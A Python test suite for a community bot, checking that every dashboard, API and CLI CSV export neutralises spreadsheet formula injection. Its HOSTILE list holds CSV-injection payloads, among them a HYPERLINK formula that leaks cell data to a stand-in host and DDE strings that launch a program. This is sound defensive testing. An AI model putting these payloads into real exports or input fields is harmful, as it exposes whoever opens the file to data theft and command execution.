"""Every CSV export is spreadsheet-safe: the dashboard and API routes that answer text/csv (found in the app's
route table) and every CLI command with `--format csv` (found in the click group), fed the same hostile values."""

from __future__ import annotations

import csv
import io
import itertools
import re
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import click
import pytest
from click.testing import CliRunner
from sqlalchemy import select
from starlette.routing import Route
from starlette.testclient import TestClient

from bot.cli import main
from bot.conversation.flows.loader import read_document
from bot.engagement.events import calendar as events
from bot.engagement.polls import definition as polls
from bot.runtime import Runtime
from bot.store.compensation import CompensationEntry, CompensationOffer
from bot.store.engagement import Answer, AuditEvent, Broadcast, Decision, InputItem
from bot.store.models import Address, Resident
from bot.store.staff import Organization, User
from tests.support.staff import api_token, make_user, sign_in

DEMO = Path(__file__).resolve().parents[2] / "bot" / "engagement" / "demo"
SLUG = "health-priorities"  # the poll, an event and a decision share it, so every {slug} route finds something

# What a resident or a partner may type, and what spreadsheet programs run as a formula (OWASP CSV injection).
HOSTILE = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click here")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u3000=1+1",  # an ideographic space first
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
)
BENIGN = ("Eastside", "O'Brien St 1+1", "50% more buses - now")  # left exactly as typed
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")

# Every export and the columns that must hold each hostile value (behind an apostrophe) and each benign one.
DASHBOARD_EXPORTS = {
    "/dashboard/polls/{slug}/results.csv": ("group", "option"),
    "/dashboard/inbox.csv": ("text", "area", "topic", "tags"),
    "/dashboard/audit.csv": ("actor", "subject"),
    "/dashboard/compensation.csv": ("area", "payout", "payout_handle"),
}
API_EXPORTS = {
    "/api/v1/polls/{slug}/results": ("group", "option"),
    "/api/v1/input-items": ("text", "area", "topic", "tags"),
}
CLI_EXPORTS: dict[tuple[str, ...], tuple[str, ...]] = {
    ("results",): ("group", "option"),
    ("representation",): ("group",),
}
_PARAM = re.compile(r"\{([a-z_]+)(?::[a-z]+)?\}")


@dataclass
class Seeded:
    """Ids each kind of path parameter can take."""

    ids: dict[str, list[str]]


def seed(runtime: Runtime) -> Seeded:
    """A resident per value (area, name), their poll answers (area, open answer), their items (text, area, topic,
    tags), their compensation lines (area, payout, handle), audit events, an organization, an event and a decision,
    a broadcast."""
    clock = runtime.clock
    values = HOSTILE + BENIGN
    with runtime.db.transaction() as session:
        now = clock.now()
        poll, _ = polls.load_poll(session, read_document(DEMO / f"{SLUG}.yaml"), runtime.flows, clock)
        polls.set_status(session, poll.slug, "open", now)
        document = {**read_document(DEMO / "health-fair.yaml"), "slug": SLUG}
        event = events.load_event(session, events.moved_to_offset(document, now), now)
        offer = CompensationOffer(
            event_id=event.id,
            amount_minor=2500,
            currency="USD",
            active=True,
            created_by="x",
            created_at=now,
            updated_at=now,
        )
        session.add(offer)
        session.flush()
        residents = []
        for n, value in enumerate(values):
            resident = Resident(
                locale="es",
                consent="granted",
                area=value,
                display_name=value,
                fields={},
                created_at=now,
                updated_at=now,
            )
            session.add(resident)
            session.flush()
            residents.append(str(resident.id))
            session.add(
                Address(
                    resident_id=resident.id, channel="sms", value=f"+1415555{n:04d}", reachable=True, created_at=now
                )
            )
            for question, answer in (("top_need", {"value": "clinics", "kind": "ask-choice"}), ("idea", value)):
                stored = answer if isinstance(answer, dict) else {"value": answer, "kind": "ask-text"}
                session.add(
                    Answer(
                        poll_id=poll.id,
                        resident_id=resident.id,
                        question=question,
                        value=stored,
                        channel="sms",
                        locale="es",
                        area=value,
                        created_at=now,
                        updated_at=now,
                    )
                )
            session.add(
                InputItem(
                    ref=3000 + n,
                    kind="feedback",
                    resident_id=resident.id,
                    text=value,
                    topic=value,
                    tags=[value],
                    area=value,
                    channel="sms",
                    locale="es",
                    may_contact=True,
                    status="received",
                    created_at=now,
                    updated_at=now,
                )
            )
            session.add(AuditEvent(actor=value, action="seed.hostile", subject=value, details={"text": value}, at=now))
            session.add(
                CompensationEntry(
                    offer_id=offer.id,
                    resident_id=resident.id,
                    amount_minor=2500,
                    currency="USD",
                    status="owed",
                    payout=value,
                    payout_handle=value,
                    channel="sms",
                    locale="es",
                    area=value,
                    created_at=now,
                )
            )
            session.add(Organization(slug=f"org-{n}", name=value, created_at=now))
        session.add(
            Decision(
                slug=SLUG,
                title={"en": HOSTILE[0]},
                summary={"en": HOSTILE[1]},
                decided_by=HOSTILE[2],
                partners=list(HOSTILE),
                status="published",
                created_by="staff@health.example",
                created_at=now,
                updated_at=now,
                published_at=now,
            )
        )
        broadcast = Broadcast(
            name=HOSTILE[0], texts={"es": HOSTILE[1]}, audience="", send_at=now, created_at=now, recipients=1
        )
        session.add(broadcast)
        session.flush()
        organizations = [str(i) for i in session.scalars(select(Organization.id))]
        users = [str(i) for i in session.scalars(select(User.id))]
    return Seeded(
        {
            "slug": [SLUG],
            "ref": ["3000"],
            "id": sorted({residents[0], organizations[0], str(broadcast.id)}),
            "user_id": users,
            "token_id": ["1"],
            "rest": ["x"],
        }
    )


def filled(path: str, seeded: Seeded) -> Iterator[str]:
    """The route's path with every combination of seeded values for its parameters."""
    pieces = _PARAM.split(path)  # text, name, text, name, ..., text
    for values in itertools.product(*(seeded.ids.get(name, ["1"]) for name in pieces[1::2])):
        pieces[1::2] = values
        yield "".join(pieces)


def rows_of(text: str) -> list[dict[str, str]]:
    """The CSV as rows keyed by the header (a byte-order mark is allowed)."""
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def check(text: str, columns: tuple[str, ...], where: str) -> None:
    """No cell (header included) starts a formula, even after leading spaces; every value is recoverable."""
    table = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    assert len(table) > 1, f"{where}: no rows"
    for row in table:
        for cell in row:
            assert not cell.lstrip().startswith(TRIGGERS), f"{where}: a formula cell {cell!r}"
    rows = rows_of(text)
    for column in columns:
        cells = {cell for row in rows for cell in (row[column] or "").split(";")}
        for value in HOSTILE:
            assert "'" + value in cells, f"{where}: {value!r} is not recoverable from column {column!r}"
        for value in BENIGN:
            assert value in cells, f"{where}: {value!r} was changed in column {column!r}"


@pytest.fixture
def seeded(runtime: Runtime) -> Seeded:
    return seed(runtime)


def csv_routes(client: TestClient, seeded: Seeded, token: str) -> dict[str, str]:
    """Every GET route of the app that answers text/csv (signed in as an admin, by session or token), asked with
    `Accept: text/csv` and, for the API, `?format=csv`: route path -> the CSV it gave."""
    found: dict[str, str] = {}
    for route in client.app.routes:  # type: ignore[attr-defined]
        if not isinstance(route, Route) or "GET" not in (route.methods or ()):
            continue
        api = route.path.startswith("/api/")
        headers = {"Accept": "text/csv", **({"Authorization": f"Bearer {token}"} if api else {})}
        for path in filled(route.path, seeded):
            for query in ("", "?format=csv") if api else ("",):
                response = client.get(path + query, headers=headers)
                assert response.status_code < 500, (path + query, response.status_code)
                if response.headers.get("content-type", "").startswith("text/csv"):
                    found[route.path] = response.text
    return found


def test_every_dashboard_and_api_csv_export_is_spreadsheet_safe(
    client: TestClient, runtime: Runtime, seeded: Seeded
) -> None:
    admin = make_user(runtime, "admin")
    token = api_token(runtime, admin)
    sign_in(client, admin)
    exports = csv_routes(client, seeded, token)
    expected = {**DASHBOARD_EXPORTS, **API_EXPORTS}
    assert set(exports) == set(expected), "a CSV export is missing from this test (add it with its columns)"
    for path, text in exports.items():
        check(text, expected[path], path)


def csv_commands(group: click.Group, prefix: tuple[str, ...] = ()) -> Iterator[tuple[tuple[str, ...], click.Command]]:
    """Every command of the CLI with a --format option that offers csv."""
    for name, command in sorted(group.commands.items()):
        if isinstance(command, click.Group):
            yield from csv_commands(command, (*prefix, name))
            continue
        for param in command.params:
            if "--format" in getattr(param, "opts", ()) and "csv" in getattr(param.type, "choices", ()):
                yield (*prefix, name), command


def test_every_cli_csv_export_is_spreadsheet_safe(runtime: Runtime, seeded: Seeded) -> None:
    commands = dict(csv_commands(main))
    assert set(commands) == set(CLI_EXPORTS), "a CSV command is missing from this test (add it with its columns)"
    for words, command in commands.items():
        arguments = [seeded.ids[p.name][0] for p in command.params if isinstance(p, click.Argument) and p.name]
        result = CliRunner().invoke(
            main,
            [*words, *arguments, "--format", "csv"],
            env={"LOOPLINE_DATABASE_URL": runtime.settings.database_url},
        )
        assert result.exit_code == 0, result.output
        check(result.stdout, CLI_EXPORTS[words], " ".join(words))


def test_only_the_spreadsheet_module_writes_csv() -> None:
    bot = Path(__file__).resolve().parents[2] / "bot"
    writers = sorted(
        str(path.relative_to(bot))
        for path in bot.rglob("*.py")
        if re.search(r"^\s*(import csv|from csv import)", path.read_text(encoding="utf-8"), re.MULTILINE)
    )
    assert writers == ["staff/spreadsheet.py"]
